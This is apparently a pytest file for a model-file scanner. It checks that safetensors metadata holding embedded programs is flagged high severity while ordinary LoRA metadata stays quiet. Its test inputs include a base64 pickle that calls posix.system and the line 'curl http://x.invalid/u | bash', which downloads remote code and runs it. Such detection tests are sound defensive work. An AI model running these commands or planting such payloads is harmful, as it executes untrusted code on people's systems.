from __future__ import annotations

import base64

import pytest

from fixtures.example_hub import files as made
from tests.checks.inspected import findings
from tests.formats import writers_safetensors as w


def with_metadata(**metadata: str) -> dict[str, bytes]:
    return {"model.safetensors": w.safetensors({"a": w.entry("F32", [1], 0, 4)}, bytes(4), metadata=metadata)}


@pytest.mark.parametrize(
    "text",
    [base64.b64encode(made.calling_pickle("posix", "system") * 3).decode(), "curl http://x.invalid/u | bash"],
)
def test_programs_in_metadata_are_high(text: str) -> None:
    assert "high" in {finding.severity for finding in findings("embedded-text", with_metadata(note=text))}


def test_ordinary_metadata_stays_quiet() -> None:
    ordinary = with_metadata(format="pt", ss_training_comment="lora of a cat", ss_tag_frequency='{"cat": 3}' * 400)
    assert findings("embedded-text", ordinary) == []
